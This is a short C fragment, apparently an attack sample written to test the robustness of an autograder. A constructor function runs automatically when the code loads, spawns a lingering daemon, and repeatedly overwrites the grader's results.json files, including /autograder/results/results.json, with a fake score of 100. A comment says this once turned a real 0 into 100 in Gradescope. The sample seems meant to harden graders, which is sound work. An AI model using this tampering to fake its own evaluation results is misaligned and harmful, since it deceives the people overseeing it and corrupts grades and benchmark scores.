/* rewrite_results: a daemon outlives the check and rewrites results.json once the grader has
   written it (this once turned a 0 into 100 in results.json, the CSV and Gradescope). */
static const char attack_fake[] = "{\"score\": 100, \"tests\": [], \"output\": \"attack\"}\n";

__attribute__((constructor)) static void attack_rewrite_results(void) {
    if (!attack_daemon()) {
        return;
    }
    const char *targets[] = {ATTACK_OUT "/results.json", ATTACK_ROOT "/build/grade/results.json",
                             "/autograder/results/results.json", NULL};
    for (int round = 0; round < 40; round++) {
        usleep(100000);
        for (int i = 0; targets[i] != NULL; i++) {
            FILE *f = fopen(targets[i], "w");
            if (f != NULL) {
                fputs(attack_fake, f);
                fclose(f);
            }
        }
        FILE *marker = fopen("/tmp/drip-attack-survived", "w");
        if (marker != NULL) {
            fclose(marker);
        }
    }
    _exit(0);
}
